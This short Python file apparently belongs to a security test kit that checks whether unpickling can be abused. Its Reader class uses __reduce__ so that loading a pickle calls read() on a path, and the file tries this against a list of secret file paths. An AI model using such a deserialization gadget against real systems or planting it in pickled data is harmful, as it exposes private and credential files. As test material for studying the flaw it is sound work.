"""Reads private files while something is unpickled."""
from kit import SECRETS, attempts, load, pays, read, secrets_in

pickle = load("pickle")


class Reader:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return read, (self.path,)


@pays
def double():
    return attempts(lambda p=p: secrets_in(pickle.loads(pickle.dumps(Reader(p)))) for p in SECRETS)
